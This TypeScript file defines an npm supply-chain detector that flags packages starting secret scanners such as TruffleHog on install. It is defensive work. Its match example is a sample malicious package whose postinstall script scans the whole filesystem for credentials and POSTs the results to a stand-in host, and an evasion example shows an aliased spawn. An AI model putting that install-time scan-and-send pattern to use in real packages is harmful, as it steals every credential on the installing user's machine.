import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { installHooks, lineOf, scriptsWith } from "./_npm.ts";
import { isLate, sight } from "./_sight.ts";

const SCANNERS = ["trufflehog", "gitleaks", "detect-secrets", "noseyparker"] as const;
const NAMED = /\b(?:trufflehog|gitleaks|detect-secrets|noseyparker)\b/i;

export const runsSecretScanner: Detector = {
  id: "runs-secret-scanner",
  title: "Starts a secret scanner on the machine where it is installed",
  severity: "high",
  ecosystems: ["npm"],
  points: 4.6,
  class: "threat",
  group: "credentials",
  why: `The code starts TruffleHog or a similar scanner, and starts processes or asks servers. Such scanners find every credential on a
disk; the worms of 2025 and 2026 downloaded one and sent away what it reported.

Security tools wrap scanners too. They start them when somebody calls them, and not while they are installed.`,
  literals: SCANNERS,
  *detect(tree) {
    for (const hook of installHooks(tree)) {
      if (!NAMED.test(hook.command)) continue;
      const says = `${hook.name} runs \`${hook.command.slice(0, 200)}\``;
      yield { path: hook.path, line: lineOf(tree, hook.path, hook.command), says, phase: "install" };
    }
    for (const file of scriptsWith(tree, SCANNERS)) {
      const match = NAMED.exec(file.text);
      if (match === null || deedsOf(file, "start").length === 0) continue;
      const sends = deedsOf(file, "upload", "http").length > 0;
      const late = isLate(file);
      yield sight(file, match.index, `starts ${match[0]}`, { share: (sends ? 1 : 0.6) * (late ? 0.5 : 1) });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"postinstall":"node b.js"}}`,
          "b.js":
            "const { execSync } = require('child_process');\nconst out = execSync('./trufflehog filesystem / --json');\nfetch('https://example.invalid', { method: 'POST', body: out });\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: { "index.js": "// finds what gitleaks would find\nexport const names = ['trufflehog'];\n" },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "index.mjs": `import { spawn as s } from 'child_process';\ns(\`\${dir}/TruffleHog\`, ['git', 'file:///']);\n`,
        },
      },
    ],
  },
};
